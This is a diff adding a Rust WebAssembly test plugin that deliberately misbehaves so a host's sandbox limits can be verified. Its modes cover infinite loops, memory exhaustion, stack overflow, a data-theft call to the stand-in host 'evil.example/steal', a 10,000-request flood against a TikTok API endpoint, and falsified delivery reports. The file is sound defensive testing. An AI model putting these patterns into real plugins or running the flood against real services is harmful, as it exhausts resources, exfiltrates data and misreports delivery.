@@ -1,0 +1,173 @@
+//! A destination that misbehaves in the way its `mode` setting names, so the host's
+//! tests can show each limit and check holding: `loop`, `alloc`, `recurse`, `panic`,
+//! `egress` (call a host outside the allow-list), `http-flood` (10,000 calls),
+//! `extra-outcome` / `missing-outcome` (break "one outcome per record"), `phantom`
+//! (report a record the request does not hold as delivered). Any other mode behaves.
+#![cfg(target_arch = "wasm32")]
+
+wit_bindgen::generate!({
+    world: "destination-plugin",
+    path: "../../wit",
+});
+
+use cdp::destination::http;
+use cdp::destination::types::{DestinationError, SettingValue, Settings};
+use exports::cdp::destination::destination::*;
+
+struct Hostile;
+
+export!(Hostile);
+
+fn mode(settings: &Settings) -> String {
+    settings
+        .iter()
+        .find(|s| s.key == "mode")
+        .and_then(|s| match &s.value {
+            SettingValue::Text(text) => Some(text.clone()),
+            _ => None,
+        })
+        .unwrap_or_default()
+}
+
+/// Misbehaves as `mode` says, or returns for the caller to behave.
+fn misbehave(mode: &str) {
+    match mode {
+        "loop" => loop {
+            std::hint::black_box(0);
+        },
+        "alloc" => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+        "recurse" => {
+            recurse(0);
+        }
+        "panic" => panic!("hostile component panicked on purpose"),
+        _ => {}
+    }
+}
+
+#[allow(unconditional_recursion)] // the point: recursion the stack limit must stop
+fn recurse(depth: u64) -> u64 {
+    std::hint::black_box(recurse(depth + 1)) + 1
+}
+
+fn get(url: &str) -> Result<http::Response, http::HttpError> {
+    http::fetch(&http::Request {
+        method: http::Method::Get,
+        url: url.into(),
+        headers: vec![],
+        body: None,
+        timeout_ms: 1000,
+    })
+}
+
+impl Guest for Hostile {
+    fn describe_settings() -> Spec {
+        Spec {
+            id: "hostile".into(),
+            name: "Hostile test component".into(),
+            version: "0.0.0".into(),
+            settings: vec![],
+            record_fields: vec![],
+            max_events_per_request: 1000,
+            max_request_bytes: 1_000_000,
+            hosts: vec!["business-api.tiktok.com".into()],
+        }
+    }
+
+    fn validate_credentials(settings: Settings) -> Result<Validation, DestinationError> {
+        let mode = mode(&settings);
+        misbehave(&mode);
+        match mode.as_str() {
+            "egress" => match get("https://evil.example/steal") {
+                Err(http::HttpError::Denied(reason)) => {
+                    Err(DestinationError::Permanent(format!("denied: {reason}")))
+                }
+                other => Err(DestinationError::Permanent(format!(
+                    "not denied: {other:?}"
+                ))),
+            },
+            "http-flood" => {
+                for _ in 0..10_000 {
+                    let _ = get("https://business-api.tiktok.com/open_api/v1.3/user/info/");
+                }
+                Err(DestinationError::Permanent(
+                    "the host let 10,000 calls through".into(),
+                ))
+            }
+            _ => Ok(Validation {
+                event_set_id: "1".into(),
+                event_set_name: None,
+                event_set_created: false,
+                advertiser_name: None,
+            }),
+        }
+    }
+
+    fn transform_batch(
+        settings: Settings,
+        records: Vec<InputRecord>,
+    ) -> Result<TransformOutput, DestinationError> {
+        let mode = mode(&settings);
+        misbehave(&mode);
+        let mut outcomes: Vec<TransformOutcome> = records
+            .iter()
+            .map(|r| TransformOutcome {
+                id: r.id.clone(),
+                status: TransformStatus::Accepted(0),
+            })
+            .collect();
+        match mode.as_str() {
+            "extra-outcome" => outcomes.push(TransformOutcome {
+                id: "ghost".into(),
+                status: TransformStatus::Accepted(0),
+            }),
+            "missing-outcome" => {
+                outcomes.pop();
+            }
+            _ => {}
+        }
+        let events = records
+            .iter()
+            .map(|r| PreparedEvent {
+                event_id: r.id.clone(),
+                record_ids: vec![r.id.clone()],
+            })
+            .collect();
+        Ok(TransformOutput {
+            requests: vec![PreparedRequest {
+                body: "{}".into(),
+                events,
+            }],
+            outcomes,
+        })
+    }
+
+    fn send(
+        settings: Settings,
+        request: PreparedRequest,
+    ) -> Result<Vec<DeliveryOutcome>, DestinationError> {
+        let mode = mode(&settings);
+        misbehave(&mode);
+        let mut outcomes: Vec<DeliveryOutcome> = request
+            .events
+            .iter()
+            .flat_map(|e| &e.record_ids)
+            .map(|id| DeliveryOutcome {
+                id: id.clone(),
+                status: DeliveryStatus::Delivered,
+            })
+            .collect();
+        if mode == "phantom" {
+            outcomes.push(DeliveryOutcome {
+                id: "never-sent".into(),
+                status: DeliveryStatus::Delivered,
+            });
+        }
+        Ok(outcomes)
+    }
+}
